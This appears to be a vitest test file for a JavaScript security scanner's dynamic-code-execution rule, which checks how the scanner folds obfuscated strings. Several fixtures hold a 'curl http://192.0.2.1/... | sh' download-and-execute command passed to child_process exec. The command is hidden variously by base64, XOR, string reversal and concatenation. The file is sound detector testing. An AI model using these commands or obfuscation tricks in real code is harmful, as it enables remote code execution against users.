import { describe, expect, it } from 'vitest';
import { jsFindings, ruleFindings } from '../helpers.js';

describe('JS-005 dynamic-code-execution', () => {
  it('decodes base64 handed to eval and analyses the decoded code', async () => {
    const payload = Buffer.from("require('child_process').exec('curl http://192.0.2.1/a | sh')").toString(
      'base64',
    );
    const all = await jsFindings({ 'index.js': `eval(Buffer.from('${payload}', 'base64').toString())` });
    const dyn = all.filter((f) => f.ruleId === 'JS-005');
    expect(dyn[0]?.severity).toBe('high');
    const inner = all.find((f) => f.ruleId === 'JS-001');
    expect(inner?.evidence?.decodedDepth).toBe(1);
    expect(inner?.line).toBe(1);
  });
  it('resolves Function built from typeof strings (this[...] global lookup)', async () => {
    const f = await ruleFindings(
      'JS-005',
      'function g(b){ var f = this[(typeof(this.Buffer.from)).charAt(0).toUpperCase() + (typeof(this.Buffer.from)).slice(1)]; new f(b)(); }',
    );
    expect(f[0]?.evidence?.callee).toBe('Function');
  });
  it('ignores Function("return this") and function timers', async () => {
    expect(await ruleFindings('JS-005', "Function('return this')(); setTimeout(() => 1, 10);")).toHaveLength(
      0,
    );
  });
});

describe('constant folding of decoders', () => {
  it('folds XOR-decoded char codes and analyses the result as code', async () => {
    const key = 23;
    const codes = [..."require('child_process').exec('curl http://192.0.2.1/x|sh')"].map(
      (c) => c.charCodeAt(0) ^ key,
    );
    const code = `const k = ${key}; const d = String.fromCharCode(...[${codes.join(',')}].map(c => c ^ k)); eval(d);`;
    const all = await jsFindings({ 'index.js': code });
    expect(all.find((f) => f.ruleId === 'JS-005')?.severity).toBe('high');
    expect(all.find((f) => f.ruleId === 'JS-001')?.evidence?.decodedDepth).toBe(1);
  });
  it('folds reversed and joined strings', async () => {
    const f = await ruleFindings(
      'JS-001',
      "require('child_process').exec('hs | 1.2.0.291//:ptth lruc'.split('').reverse().join(''))",
    );
    expect(f[0]?.severity).toBe('critical');
  });
});

describe('JS-005 folded code that does nothing harmful', () => {
  it('is low when the folded string is inert feature detection (Closure base.js)', async () => {
    const code = `var hasBadLetScoping = !eval('"use strict";' + 'let x = 1; function f() { return typeof x; };' + 'f() == "number";');`;
    const f = await ruleFindings('JS-005', code);
    expect(f).toHaveLength(1);
    expect(f[0]!.severity).toBe('low');
    expect(f[0]!.category).not.toBe('obfuscation');
    expect(f[0]!.evidence?.inert).toBe(true);
  });
  it('stays high when the folded string does something (split to dodge string matching)', async () => {
    const code = `eval('req' + 'uire("child_' + 'process").exec("curl http://192.0.2.1/a | sh")');`;
    const all = await jsFindings({ 'index.js': code });
    const f = all.filter((x) => x.ruleId === 'JS-005');
    expect(f[0]?.severity).toBe('high');
    expect(f[0]?.category).toBe('obfuscation');
    expect(all.some((x) => x.ruleId === 'JS-001' && x.evidence?.decodedDepth === 1)).toBe(true);
  });
});

describe('JS-005 empty folds', () => {
  it('a parameter default of an empty string is no decoded code', async () => {
    const f = await ruleFindings(
      'JS-005',
      `const evalErr = (str = '') => { try { return eval(str); } catch (e) { return String(e); } };`,
    );
    expect(f).toHaveLength(1);
    expect(f[0]!.severity).not.toBe('high');
    expect(f[0]!.category).not.toBe('obfuscation');
  });
});

describe('JS-005 what is not code', () => {
  it('a class method named setInterval called with a folded number runs nothing', async () => {
    const code = `const pu = 100; class Poller { setInterval(ms) { this.ms = ms; } start() { this.setInterval(pu); } }`;
    expect(await ruleFindings('JS-005', code)).toHaveLength(0);
  });
  it('a fold that does not parse (template-engine fragments) is not decoded code', async () => {
    const code = `function compile(tpl) { var code = 'var _ = [];with(obj||{}) {' + '_.push(' ; return new Function('obj', 'encodeHtml', code); }`;
    const f = await ruleFindings('JS-005', code);
    expect(f).toHaveLength(1);
    expect(f[0]!.severity).not.toBe('high');
    expect(f[0]!.category).not.toBe('obfuscation');
  });
});
